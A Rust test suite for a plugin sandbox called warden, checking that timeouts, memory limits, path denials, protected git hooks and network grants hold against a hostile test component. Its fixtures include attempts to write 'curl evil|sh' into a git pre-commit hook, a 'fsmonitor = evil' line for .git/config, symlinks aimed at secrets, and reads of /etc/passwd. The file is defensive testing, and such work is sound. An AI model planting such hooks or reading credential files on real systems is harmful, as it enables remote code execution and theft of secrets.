//! The component runtime against a hostile component (`plugins/testkit`): each
//! attack is really attempted, the runtime contains it with the right error,
//! and the same process serves the next call normally.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod util;

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use util::kit::{Kit, TESTKIT, code};
use warden::approval::{ApproveMode, Approver};
use warden::audit::AuditLog;
use warden::policy::Context;
use warden::{Executor, Policy, Status, ToolCall};

/// The testkit's tools with the workspace readable, `spin` with a 1 s timeout,
/// `huge` with 128 MiB, then `extra`.
fn kit(extra: &str) -> Kit {
    // A generous timeout, so that a loaded machine does not turn a limit into a
    // TIMEOUT; `spin` alone has 1s, the timeout it tests.
    let mut text = String::new();
    for tool in ["echo", "env", "grow", "flood", "recurse", "deep", "read"] {
        text.push_str(&format!("[tools.{tool}]\nplugin = \"kit\"\nfs.read = [\"{{workspace}}\"]\n"));
    }
    text.push_str("[tools.spin]\nplugin = \"kit\"\nlimits = { timeout = \"1s\" }\n");
    text.push_str("[tools.huge]\nplugin = \"kit\"\nlimits = { memory = \"128MiB\" }\n");
    text.push_str("[tools.write]\nplugin = \"kit\"\nfs.read = [\"{workspace}\"]\n");
    text.push_str(extra);
    Kit::new("32MiB", &text)
}

fn still_serves(k: &Kit) {
    let r = k.call("echo", json!({"after": true}));
    assert_eq!(r.status, Status::Success, "the next call failed: {r:?}");
    assert_eq!(r.result, Some(json!({"after": true})));
}

#[test]
fn an_infinite_loop_times_out_within_the_tools_timeout() {
    let k = kit("");
    let started = Instant::now();
    let r = k.call("spin", json!({}));
    assert_eq!(code(&r), "TIMEOUT", "{r:?}");
    assert_eq!(r.exit_code(), 4);
    let took = started.elapsed();
    assert!(took < Duration::from_secs(5), "took {took:?} for a 1s timeout");
    still_serves(&k);
}

#[test]
fn memory_growth_past_the_limit_is_limit_exceeded() {
    let k = kit("");
    let r = k.call("grow", json!({}));
    assert_eq!(code(&r), "LIMIT_EXCEEDED", "{r:?}");
    assert!(r.error.as_ref().unwrap().message.contains("32MiB"), "{r:?}");
    still_serves(&k);
}

#[test]
fn an_output_flood_is_truncated_not_fatal() {
    let k = kit("");
    let r = k.call("flood", json!({}));
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(r.truncated);
    still_serves(&k);
}

#[test]
fn a_huge_result_is_cut_to_max_output() {
    let k = kit("");
    let r = k.call("huge", json!({}));
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(r.truncated);
    assert!(serde_json::to_vec(r.result.as_ref().unwrap()).unwrap().len() <= 64 << 10);
    still_serves(&k);
}

#[test]
fn a_stack_overflow_is_execution_failed() {
    let k = kit("");
    let r = k.call("deep", json!({}));
    assert_eq!(code(&r), "EXECUTION_FAILED", "{r:?}");
    assert!(r.error.as_ref().unwrap().message.contains("stack overflow"), "{r:?}");
    still_serves(&k);
    // Large frames exhaust the stack the component keeps in its own memory first.
    let r = k.call("recurse", json!({}));
    assert_eq!(code(&r), "EXECUTION_FAILED", "{r:?}");
    assert!(r.error.as_ref().unwrap().message.contains("out of bounds memory access"), "{r:?}");
    assert!(!r.error.as_ref().unwrap().message.contains("wasm backtrace"), "{r:?}");
    still_serves(&k);
}

#[test]
fn components_see_no_host_environment_or_arguments() {
    assert!(std::env::var_os("PATH").is_some());
    let k = kit("");
    let r = k.call("env", json!({}));
    let v = r.result.unwrap();
    let names: Vec<String> = v["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap().split('=').next().unwrap().to_string())
        .collect();
    assert_eq!(names, ["WARDEN_WORKSPACE", "WARDEN_ROOTS"]);
    assert_eq!(v["args"], json!([]));
}

#[test]
fn components_cannot_read_outside_their_preopens() {
    let k = kit("");
    for path in ["/etc/passwd", "/proc/self/environ", "../../etc/passwd", "/"] {
        let r = k.call("read", json!({"path": path}));
        assert_eq!(r.status, Status::Error, "{path}: {r:?}");
        assert!(!format!("{r:?}").contains("root:x:0"));
    }
    std::fs::write(k.ws.join("ok.txt"), "inside").unwrap();
    let r = k.call("read", json!({"path": k.ws.join("ok.txt")}));
    assert_eq!(r.result, Some(json!("inside")), "{r:?}");
}

#[test]
fn a_read_only_grant_refuses_writes() {
    let k = kit("");
    let target = k.ws.join("x.txt");
    let r = k.call("write", json!({"path": target, "content": "pwned"}));
    assert_eq!(code(&r), "PERMISSION_DENIED", "{r:?}");
    assert!(!target.exists());
}

#[test]
fn no_network_without_a_grant_and_only_the_granted_destination_with_one() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let other_port = other.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    other.set_nonblocking(true).unwrap();

    let k = kit(&format!("[tools.connect]\nplugin = \"kit\"\nnet.connect = [\"127.0.0.1:{port}\"]\n"));
    let r = k.call("connect", json!({"addr": format!("127.0.0.1:{other_port}")}));
    assert_eq!(code(&r), "PERMISSION_DENIED", "ungranted port: {r:?}");
    assert!(other.accept().is_err(), "a connection reached the ungranted listener");
    let r = k.call("connect", json!({"addr": format!("127.0.0.1:{port}")}));
    assert_eq!(r.result, Some(json!("connected")), "granted port: {r:?}");
    std::thread::sleep(Duration::from_millis(50));
    let (mut s, _) = listener.accept().expect("the granted connection arrived");
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);

    let k = kit("[tools.connect]\nplugin = \"kit\"\n");
    let r = k.call("connect", json!({"addr": format!("127.0.0.1:{port}")}));
    assert_eq!(code(&r), "PERMISSION_DENIED", "no grant: {r:?}");
    std::thread::sleep(Duration::from_millis(50));
    assert!(listener.accept().is_err(), "a connection arrived without a grant");
}

#[test]
fn a_plugin_whose_hash_does_not_match_its_pin_is_not_loaded() {
    let dir = tempfile::tempdir().unwrap();
    let ctx =
        Context { workspace: dir.path().canonicalize().unwrap(), home: dir.path().into(), cache: dir.path().into() };
    let pinned = "0".repeat(64);
    let text = format!(
        "version = 1\n[plugins.kit]\nsource = \"{TESTKIT}\"\nsha256 = \"{pinned}\"\n[tools.echo]\nplugin = \"kit\"\ntier = \"auto\"\n"
    );
    let policy = Policy::from_text(&text, "kit.toml", Path::new("/"), &ctx).unwrap();
    let log = AuditLog::open(&dir.path().join("a.jsonl")).unwrap();
    let exec = Executor::new(policy, Approver::new(ApproveMode::Deny), log, warden::Options::default()).unwrap();
    let r = exec.call(ToolCall::new("echo", json!({})));
    let msg = &r.error.as_ref().unwrap().message;
    let actual = hex::encode(Sha256::digest(std::fs::read(TESTKIT).unwrap()));
    assert!(msg.contains(&pinned) && msg.contains(&actual), "{msg}");
    assert_eq!(r.exit_code(), 3);
}

#[test]
fn concurrent_calls_share_one_engine() {
    let k = &kit("");
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..8).map(|i| s.spawn(move || k.call("echo", json!({"i": i})))).collect();
        for (i, h) in handles.into_iter().enumerate() {
            assert_eq!(h.join().unwrap().result, Some(json!({"i": i})));
        }
    });
}

/// The executor's cancel switch stops a component in an infinite loop at its
/// next epoch tick, well before its timeout, and the call is recorded as cancelled.
#[test]
fn a_cancelled_component_stops_before_its_timeout() {
    use warden::executor::CallHooks;
    use warden::runtime::Cancel;

    let k = kit("");
    let hooks = CallHooks { cancel: Cancel::new(), ..CallHooks::default() };
    let switch = hooks.cancel.clone();
    let canceller = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(200));
        switch.cancel();
    });
    // `spin` has a 1s timeout: CANCELLED (not TIMEOUT) shows the switch ended it.
    let r = k.exec.call_with(ToolCall::new("spin", json!({})), &hooks);
    canceller.join().unwrap();
    assert_eq!(code(&r), "CANCELLED", "{r:?}");
    assert_eq!(r.status, Status::Cancelled);
    let log = std::fs::read_to_string(&k.log).unwrap();
    let last: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    assert_eq!(last["status"], "cancelled");
    still_serves(&k);
}

/// The protected and denied paths of a call, enforced by warden's
/// WASI host on the builtin `fs` tools (a hand-built [`Protection`], as the
/// executor builds it from the policy).
mod protected_paths {
    use std::path::{Path, PathBuf};
    use std::sync::Arc;
    use std::time::{Duration, Instant};

    use serde_json::{Value, json};
    use warden::policy::{Limits, PluginKind, PluginSource, PluginSpec};
    use warden::runtime::protect::{Deny, DenyPattern, Kind, PathRule, Protection};
    use warden::runtime::wasm::{ComponentRuntime, LoadedPlugin};
    use warden::runtime::{Cancel, Walls};
    use warden::{CallError, ErrorCode};

    struct Fs {
        _dir: tempfile::TempDir,
        ws: PathBuf,
        rt: ComponentRuntime,
        fs: Arc<LoadedPlugin>,
        walls: Walls,
    }

    fn rule(path: PathBuf, deny: Deny, kind: Kind, root: &Path, why: &str) -> PathRule {
        PathRule { path, deny, kind, root: root.to_path_buf(), why: why.into() }
    }

    /// A workspace with a git repository, a `.env`, a `secrets/` directory and
    /// a `sub/.env`; `.git/hooks` and `.git/config` protected, `**/.env` and
    /// `secrets` denied. `{workspace}/.git` is granted a second time, as its own
    /// preopen.
    fn setup(protected: bool) -> Fs {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        for d in [".git/hooks", ".git/objects", ".git/refs", "secrets", "sub", "src"] {
            std::fs::create_dir_all(ws.join(d)).unwrap();
        }
        let ws = ws.canonicalize().unwrap();
        std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(ws.join(".env"), "TOKEN=hunter2\n").unwrap();
        std::fs::write(ws.join("sub/.env"), "TOKEN=hunter3\n").unwrap();
        std::fs::write(ws.join("secrets/key"), "hunter4\n").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.join(".git/hooks/pre-push.sample"), "#!/bin/sh\n").unwrap();
        std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
        let hooks = "protected: git runs these hooks on the host";
        let protect = if protected {
            Protection {
                rules: vec![
                    rule(ws.join(".git/hooks"), Deny::Write, Kind::Dir, &ws, hooks),
                    rule(ws.join(".git/config"), Deny::Write, Kind::File, &ws, "protected: git runs its commands"),
                    rule(ws.join("secrets"), Deny::Read, Kind::Dir, &ws, "fs.deny_read"),
                ],
                patterns: vec![DenyPattern {
                    pattern: format!("{}/**/.env", ws.display()),
                    deny: Deny::Read,
                    why: "fs.deny_read".into(),
                }],
                ..Protection::default()
            }
        } else {
            Protection::default()
        };
        let limits = Limits {
            timeout: Duration::from_secs(20),
            memory: 64 << 20,
            max_output: 1 << 20,
            cpu: Duration::from_secs(20),
            processes: 1,
            open_files: 64,
            file_size: 0,
            tmp_size: 0,
            tmp_files: 0,
        };
        let dirs = vec![(ws.clone(), true), (ws.join(".git"), true)];
        let walls = Walls { dirs, protect, ..Walls::nothing(ws.clone(), limits) };
        let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("warden-test-cache");
        let rt = ComponentRuntime::new(Some(cache)).unwrap();
        let spec = PluginSpec {
            name: "fs".into(),
            source: PluginSource::Builtin("fs".into()),
            kind: PluginKind::Tool,
            sha256: None,
            signers: Vec::new(),
            signature: None,
            location: "test".into(),
        };
        let fs = rt.load(&spec).unwrap();
        Fs { _dir: dir, ws, rt, fs, walls }
    }

    impl Fs {
        fn call(&self, tool: &str, args: Value) -> Result<Value, CallError> {
            use warden::runtime::{Input, Invocation, Runtime, Watch};
            let watch = Watch { cancel: &Cancel::new(), tap: None, progress: None };
            let call = Invocation { tool, input: Input::Args(&args), walls: &self.walls, tmp: None, watch };
            self.rt.run(&self.fs, call).map(|o| o.value)
        }

        /// The call fails with PERMISSION_DENIED, naming `path` and `key`.
        fn refused(&self, tool: &str, args: Value, path: &str, key: &str) {
            let e = self.call(tool, args.clone()).err().unwrap_or_else(|| panic!("{tool} {args} was allowed"));
            assert_eq!(e.code, ErrorCode::PermissionDenied, "{tool} {args}: {e:?}");
            let shown = self.ws.join(path);
            assert!(e.message.contains(&*shown.to_string_lossy()), "{tool} {args}: {}", e.message);
            assert!(e.message.contains("warden's policy") && e.message.contains(key), "{tool} {args}: {}", e.message);
            assert!(!e.message.contains("hunter"), "{}", e.message);
        }
    }

    #[test]
    fn denied_files_cannot_be_read_directly_or_through_a_link() {
        let f = setup(true);
        f.refused("read_file", json!({"path": ".env"}), ".env", "fs.deny_read");
        f.refused("read_file", json!({"path": "sub/.env"}), "sub/.env", "fs.deny_read");
        f.refused("read_file", json!({"path": "./sub/../.env"}), ".env", "fs.deny_read");
        f.refused("read_file", json!({"path": "secrets/key"}), "secrets/key", "fs.deny_read");
        f.refused("file_info", json!({"path": "secrets/key"}), "secrets/key", "fs.deny_read");
        f.refused("copy_file", json!({"source": ".env", "dest": "leak.txt"}), ".env", "fs.deny_read");
        assert!(!f.ws.join("leak.txt").exists());
        // Links planted by someone else: to the file, and to a denied directory.
        std::os::unix::fs::symlink(".env", f.ws.join("x")).unwrap();
        std::os::unix::fs::symlink("../secrets", f.ws.join("sub/s")).unwrap();
        f.refused("read_file", json!({"path": "x"}), ".env", "fs.deny_read");
        f.refused("read_file", json!({"path": "sub/s/key"}), "secrets/key", "fs.deny_read");
        // Renaming a denied file to a readable name.
        f.refused("move_file", json!({"source": ".env", "dest": "env.txt"}), ".env", "fs.deny_read");
        assert!(f.ws.join(".env").exists());
        // Case is not folded: `.ENV` is another file.
        std::fs::write(f.ws.join(".ENV"), "public\n").unwrap();
        assert_eq!(f.call("read_file", json!({"path": ".ENV"})).unwrap()["content"], "public\n");
    }

    #[test]
    fn denied_directories_cannot_be_listed_but_their_parent_can() {
        let f = setup(true);
        f.refused("list_directory", json!({"path": "secrets"}), "secrets", "fs.deny_read");
        f.refused("list_directory", json!({"path": "secrets/"}), "secrets", "fs.deny_read");
        f.refused("grep", json!({"pattern": "hunter", "path": "secrets"}), "secrets", "fs.deny_read");
        let listing = f.call("list_directory", json!({"path": ".", "depth": 3})).unwrap().to_string();
        assert!(listing.contains("src/main.rs"), "{listing}");
        assert!(!listing.contains("secrets/key"), "{listing}");
        let found = f.call("grep", json!({"pattern": "hunter"})).unwrap().to_string();
        assert!(!found.contains("hunter"), "grep read a denied file: {found}");
    }

    #[test]
    fn protected_paths_are_read_only_and_pinned() {
        let f = setup(true);
        let hook = ".git/hooks/pre-commit";
        f.refused("write_file", json!({"path": hook, "content": "curl evil|sh"}), hook, "fs.unprotect");
        assert!(!f.ws.join(hook).exists());
        // Through the second preopen ({workspace}/.git), by an absolute path.
        let abs = f.ws.join(hook);
        f.refused("write_file", json!({"path": abs, "content": "x"}), hook, "fs.unprotect");
        f.refused(
            "edit_file",
            json!({"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor = evil"}),
            ".git/config",
            "fs.unprotect",
        );
        f.refused(
            "delete_file",
            json!({"path": ".git/hooks/pre-push.sample"}),
            ".git/hooks/pre-push.sample",
            "fs.unprotect",
        );
        f.refused("move_file", json!({"source": ".git", "dest": "git.old"}), ".git", "fs.unprotect");
        f.refused("move_file", json!({"source": ".git/hooks", "dest": "hooks.old"}), ".git/hooks", "fs.unprotect");
        f.refused("move_file", json!({"source": "src/main.rs", "dest": ".git/config"}), ".git/config", "fs.unprotect");
        f.refused("create_directory", json!({"path": ".git/hooks/d"}), ".git/hooks/d", "fs.unprotect");
        f.refused("copy_file", json!({"source": "src/main.rs", "dest": hook}), hook, "fs.unprotect");
        // A link planted towards a hook that does not exist yet: no write through it.
        std::os::unix::fs::symlink(".git/hooks/post-checkout", f.ws.join("h")).unwrap();
        f.refused("write_file", json!({"path": "h", "content": "x"}), ".git/hooks/post-checkout", "fs.unprotect");
        assert!(!f.ws.join(".git/hooks/post-checkout").exists());
        // Reading protected paths is fine.
        let v = f.call("read_file", json!({"path": ".git/config"})).unwrap();
        assert_eq!(v["content"], "[core]\n");
        f.call("list_directory", json!({"path": ".git/hooks"})).unwrap();
    }

    #[test]
    fn ordinary_work_is_untouched() {
        let f = setup(true);
        f.call("write_file", json!({"path": "src/lib.rs", "content": "pub fn f() {}\n"})).unwrap();
        f.call("edit_file", json!({"path": "src/lib.rs", "old": "f()", "new": "g()"})).unwrap();
        f.call("create_directory", json!({"path": "a/b"})).unwrap();
        f.call("move_file", json!({"source": "src/lib.rs", "dest": "a/b/lib.rs"})).unwrap();
        f.call("copy_file", json!({"source": "a/b/lib.rs", "dest": "a/lib.rs"})).unwrap();
        f.call("delete_file", json!({"path": "a/lib.rs"})).unwrap();
        f.call("write_file", json!({"path": ".git/HEAD", "content": "ref: refs/heads/main\n"})).unwrap();
        assert_eq!(std::fs::read_to_string(f.ws.join("a/b/lib.rs")).unwrap(), "pub fn g() {}\n");
        // An ordinary failure does not mention a refusal.
        let e = f.call("read_file", json!({"path": "missing.txt"})).unwrap_err();
        assert!(!e.message.contains("warden's policy"), "{}", e.message);
    }

    /// Not a test: `cargo test --test components -- --ignored --nocapture guard_cost`
    /// prints the cost of the guard on 1000 `read_file` calls.
    #[test]
    #[ignore = "a measurement, not a test: run by hand"]
    fn guard_cost() {
        let (off, on) = (setup(false), setup(true));
        let args = json!({"path": "src/main.rs"});
        let mut best = [f64::MAX; 2];
        for round in 0..20 {
            // Each goes first every other round.
            let order = if round % 2 == 0 { [(0, &off), (1, &on)] } else { [(1, &on), (0, &off)] };
            for (i, f) in order {
                let t = Instant::now();
                for _ in 0..1000 {
                    f.call("read_file", args.clone()).unwrap();
                }
                let us = t.elapsed().as_secs_f64() * 1000.0;
                if round > 0 {
                    best[i] = best[i].min(us);
                }
            }
        }
        println!(
            "read_file, best of 19 rounds of 1000: {:.1} µs without protected paths, {:.1} µs with",
            best[0], best[1]
        );
    }
}

/// Protected and denied paths through the policy and the executor: `fs.deny_read` on the
/// builtin file tools and the built-in protected paths, enforced by warden's
/// WASI host; the error names the path and the key that releases it.
#[test]
fn the_policy_s_denied_and_protected_paths_hold_for_the_builtin_file_tools() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.join("src")).unwrap();
    let ws = ws.canonicalize().unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=hunter2\n").unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(".env", ws.join("env-link")).unwrap();
    let mut text = String::from("version = 1\n[defaults]\ntier = \"auto\"\n[plugins.fs]\nsource = \"builtin:fs\"\n");
    for tool in ["read_file", "write_file", "list_directory", "move_file"] {
        text.push_str(&format!(
            "[tools.{tool}]\nplugin = \"fs\"\nfs.write = [\"{{workspace}}\"]\nfs.deny_read = [\"{{workspace}}/**/.env\"]\n"
        ));
    }
    let exec = util::kit::executor(dir.path(), &ws, &text);
    let refused = |tool: &str, args: Value, path: &str, key: &str| {
        let r = exec.call(ToolCall::new(tool, args.clone()));
        assert_eq!(code(&r), "PERMISSION_DENIED", "{tool} {args}: {r:?}");
        let msg = &r.error.as_ref().unwrap().message;
        assert!(msg.contains(&*ws.join(path).to_string_lossy()) && msg.contains(key), "{tool} {args}: {msg}");
        assert!(!msg.contains("hunter2"), "{msg}");
    };
    refused("read_file", json!({"path": ".env"}), ".env", "fs.deny_read");
    refused("read_file", json!({"path": "env-link"}), ".env", "fs.deny_read");
    refused("move_file", json!({"source": ".env", "dest": "env.txt"}), ".env", "fs.deny_read");
    let hook = ".git/hooks/pre-commit";
    refused("write_file", json!({"path": hook, "content": "curl evil | sh"}), hook, "fs.unprotect");
    refused("move_file", json!({"source": ".git", "dest": "git.old"}), ".git", "fs.unprotect");
    assert!(!ws.join(hook).exists() && ws.join(".git/config").exists() && ws.join(".env").exists());
    let r = exec.call(ToolCall::new("write_file", json!({"path": "src/lib.rs", "content": "ok"})));
    assert_eq!(r.status, Status::Success, "{r:?}");
    let r = exec.call(ToolCall::new("list_directory", json!({"path": ".", "depth": 2})));
    assert_eq!(r.status, Status::Success, "{r:?}");
    assert!(format!("{:?}", r.result).contains("src/lib.rs"), "{r:?}");
    let log = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap();
    let last: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    assert_eq!(last["sandbox"]["paths"], "wasi-host", "{last}");
}
